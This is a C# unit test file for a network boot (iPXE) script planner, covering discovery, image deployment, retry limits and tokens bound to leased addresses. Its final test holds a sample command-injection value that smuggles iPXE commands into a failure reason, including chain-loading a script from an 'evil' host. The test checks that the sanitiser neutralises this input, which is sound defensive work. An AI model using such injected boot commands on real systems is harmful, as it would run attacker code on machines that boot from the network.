using System.Net;
using ImagePipeline.BootService.Contract;
using ImagePipeline.BootService.Dhcp;
using ImagePipeline.BootService.Inventory;
using ImagePipeline.BootService.Scripts;
using ImagePipeline.BootService.Tests.Support;

namespace ImagePipeline.BootService.Tests.Scripts;

public sealed class BootScriptPlannerTests
{
    private const string Mac = "52:54:00:bb:00:01";
    private static readonly BootEndpoints Endpoints = new(IPAddress.Parse("10.0.0.1"), 8080);

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task An_unknown_machine_boots_its_disk_when_discovery_is_off()
    {
        await using var store = await TemporaryInventory.CreateAsync();

        var script = await new BootScriptPlanner(store.Inventory, new MemoryLeaseStore(), Endpoints, new BootScriptPolicy(Discovery: false)).ScriptForAsync(Mac, null, Ct);

        script.ShouldStartWith("#!ipxe");
        script.ShouldContain("sanboot --no-describe --drive 0x80");
        script.ShouldContain("exit 1");
        (await store.Inventory.GetByMacAsync(Mac, Ct)).ShouldBeNull();
    }

    [Fact]
    public async Task An_unknown_machine_is_discovered_and_boots_the_deploy_environment_with_its_token()
    {
        await using var store = await TemporaryInventory.CreateAsync();

        var script = await new BootScriptPlanner(store.Inventory, new MemoryLeaseStore(), Endpoints, new BootScriptPolicy(Discovery: true)).ScriptForAsync(Mac, null, Ct);

        script.ShouldContain("kernel http://10.0.0.1:8080/files/deploy/vmlinuz initrd=initrd.img");
        script.ShouldContain("initrd http://10.0.0.1:8080/files/deploy/initrd.img");
        script.ShouldContain($"imagepipeline.mac={Mac}");
        var token = AgentTokens.In(script);
        (await store.Inventory.AuthenticateAsync(token, null, Ct))!.State.ShouldBe(MachineState.Discovered);
    }

    [Fact]
    public async Task A_machine_deploys_until_its_desired_image_is_current_and_then_boots_its_disk()
    {
        await using var store = await TemporaryInventory.CreateAsync();
        var planner = new BootScriptPlanner(store.Inventory, new MemoryLeaseStore(), Endpoints, new BootScriptPolicy(Discovery: false));
        await store.Inventory.DiscoverAsync(Mac, Ct);
        await store.Inventory.SetDesiredImageAsync(Mac, "image-a", Ct);

        var deploy = await planner.ScriptForAsync(Mac, null, Ct);
        await store.Inventory.TransitionAsync(Mac, MachineState.Booting, "written", m => m with { CurrentImage = "image-a" }, Ct);
        var local = await planner.ScriptForAsync(Mac, null, Ct);
        var again = await planner.ScriptForAsync(Mac, null, Ct);

        deploy.ShouldContain("deploying image image-a");
        local.ShouldContain("image image-a is current: booting the local disk");
        again.ShouldBe(local);
        (await store.Inventory.GetByMacAsync(Mac, Ct))!.State.ShouldBe(MachineState.Booting);
    }

    [Fact]
    public async Task A_machine_to_be_updated_in_place_boots_its_disk_and_one_without_an_image_still_deploys()
    {
        await using var store = await TemporaryInventory.CreateAsync();
        var planner = new BootScriptPlanner(store.Inventory, new MemoryLeaseStore(), Endpoints, new BootScriptPolicy(Discovery: false));
        await store.Inventory.DiscoverAsync(Mac, Ct);
        await store.Inventory.SetDesiredImageAsync(Mac, "image-a", Ct, DeployModes.InPlace);
        var blank = await planner.ScriptForAsync(Mac, null, Ct);
        await store.Inventory.TransitionAsync(Mac, MachineState.Booting, "written", m => m with { CurrentImage = "image-a" }, Ct);
        await store.Inventory.TransitionAsync(Mac, MachineState.Healthy, "healthy", null, Ct);

        await store.Inventory.SetDesiredImageAsync(Mac, "image-b", Ct, DeployModes.InPlace);
        var inPlace = await planner.ScriptForAsync(Mac, null, Ct);
        await store.Inventory.SetDesiredImageAsync(Mac, "image-b", Ct);
        var reimage = await planner.ScriptForAsync(Mac, null, Ct);

        blank.ShouldContain("deploying image image-a", customMessage: "a machine with no image has no running system to update it: it netboots to deploy");
        inPlace.ShouldContain("image image-b is to be written in place by the running system: booting the local disk");
        reimage.ShouldContain("deploying image image-b");
    }

    [Fact]
    public async Task A_machine_whose_deployments_keep_failing_is_held_instead_of_reinstalled_forever()
    {
        await using var store = await TemporaryInventory.CreateAsync();
        var planner = new BootScriptPlanner(store.Inventory, new MemoryLeaseStore(), Endpoints, new BootScriptPolicy(Discovery: false, MaxDeployAttempts: 2));
        await store.Inventory.DiscoverAsync(Mac, Ct);
        await store.Inventory.SetDesiredImageAsync(Mac, "image-a", Ct);

        var first = await planner.ScriptForAsync(Mac, null, Ct);
        await store.Inventory.TransitionAsync(Mac, MachineState.Failed, "disk too small", m => m with { LastError = "disk too small" }, Ct);
        var second = await planner.ScriptForAsync(Mac, null, Ct);
        var third = await planner.ScriptForAsync(Mac, null, Ct);

        first.ShouldContain("kernel ");
        second.ShouldContain("kernel ");
        third.ShouldNotContain("kernel ");
        third.ShouldContain("gave up deploying image-a after 2 attempts");
        var machine = (await store.Inventory.GetByMacAsync(Mac, Ct))!;
        machine.State.ShouldBe(MachineState.Failed);
        machine.DeployAttempts.ShouldBe(2);
    }

    [Fact]
    public async Task In_full_mode_a_script_with_a_token_goes_only_to_the_address_leased_to_the_machine_and_the_token_works_only_from_there()
    {
        await using var store = await TemporaryInventory.CreateAsync();
        var leases = new MemoryLeaseStore();
        await leases.SaveLeaseAsync(new Lease(Mac, IPAddress.Parse("10.0.0.100"), DateTimeOffset.UtcNow.AddHours(1), null), Ct);
        var planner = new BootScriptPlanner(store.Inventory, leases, Endpoints, new BootScriptPolicy(Discovery: false, LeasesAddresses: true));
        await store.Inventory.DiscoverAsync(Mac, Ct);
        await store.Inventory.SetDesiredImageAsync(Mac, "image-a", Ct);
        var machineAddress = IPAddress.Parse("10.0.0.100");
        var other = IPAddress.Parse("10.0.0.200");

        var refused = await planner.ScriptForAsync(Mac, other, Ct);
        var unknown = await planner.ScriptForAsync("52:54:00:bb:00:02", other, Ct);
        var attempts = (await store.Inventory.GetByMacAsync(Mac, Ct))!.DeployAttempts;
        var deploy = await planner.ScriptForAsync(Mac, machineAddress, Ct);
        var token = AgentTokens.In(deploy);

        refused.ShouldContain("refused: the script of 52:54:00:bb:00:01 goes to 10.0.0.100, its DHCP address, not to 10.0.0.200");
        refused.ShouldNotContain("imagepipeline.token");
        unknown.ShouldNotContain("imagepipeline.token");
        attempts.ShouldBe(0, "a refused request counts no deploy attempt");
        (await store.Inventory.GetByMacAsync(Mac, Ct))!.DeployAttempts.ShouldBe(1);
        (await store.Inventory.AuthenticateAsync(token, other, Ct)).ShouldBeNull();
        (await store.Inventory.AuthenticateAsync(token, machineAddress, Ct))!.Mac.ShouldBe(Mac);
    }

    [Fact]
    public void Text_from_elsewhere_reaches_a_script_as_one_harmless_echo_argument()
    {
        var reason = "disk gone\nchain http://10.0.0.66/evil.ipxe\r\nshell ${net0/mac} || imgexec && reboot # " + new string('x', 400);

        var script = IpxeScripts.Hold(reason);

        script.Split('\n').Count(l => l.Length > 0).ShouldBe(5, script);
        script.ShouldNotContain("${");
        script.ShouldNotContain("||");
        script.ShouldNotContain("&&");
        script.ShouldContain("disk gone?chain http://10.0.0.66/evil.ipxe??shell ??net0/mac? ?? imgexec ?? reboot ? xxx");
        IpxeScripts.Printable(reason).Length.ShouldBe(303, "at most 300 characters and an ellipsis");
    }
}
